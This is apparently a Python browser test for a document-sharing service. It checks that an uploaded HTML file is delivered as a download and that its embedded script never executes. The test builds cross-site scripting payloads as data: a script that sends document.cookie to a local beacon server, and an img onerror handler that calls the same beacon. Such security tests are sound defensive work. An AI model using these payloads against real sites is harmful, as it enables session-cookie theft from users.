"""An uploaded HTML page with a script, opened from its content link in a real browser, never runs."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Browser
from playwright.sync_api import Error as PlaywrightError

from guard.runtime import Runtime
from tests.broker.helpers import Broker
from tests.support.live import free_port, live_server
from tests.support.people import People


class Beacon(BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:
        Beacon.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass


def test_a_delivered_page_with_a_script_does_not_run_it(
    browser: Browser, runtime: Runtime, guard_home: Path, db_url: str
) -> None:
    beacon_port = free_port()
    beacon = HTTPServer(("127.0.0.1", beacon_port), Beacon)
    threading.Thread(target=beacon.serve_forever, daemon=True).start()
    script = f"<script>fetch('http://127.0.0.1:{beacon_port}/ran?c=' + document.cookie)</script>"
    page_html = f"<html><body><h1>Prices</h1>{script}<img src=x onerror=\"fetch('http://127.0.0.1:{beacon_port}/img')\"></body></html>"
    try:
        with (
            live_server(guard_home, db_url) as base,
            httpx.Client(base_url=base, timeout=30) as http,
        ):
            broker = Broker(http, People(http, runtime))  # type: ignore[arg-type]
            ann = broker.person("ann")
            customer = broker.customer(ann)
            document = broker.upload(
                customer, filename="prices.html", content_type="text/html", content=page_html.encode()
            )
            grant = broker.ask(ann, document)
            context = browser.new_context(accept_downloads=True)
            page = context.new_page()
            # Chromium reports a navigation that turned into a download as aborted.
            with (
                page.expect_download() as download,
                pytest.raises(PlaywrightError, match=r"Download is starting|ERR_ABORTED"),
            ):
                page.goto(f"{base}{grant['content_url']}")
            assert download.value.suggested_filename == "prices.html"
            page.wait_for_timeout(500)
            assert "Prices" not in page.content()  # never rendered in Guard's origin
            context.close()
    finally:
        beacon.shutdown()
    assert Beacon.hits == []
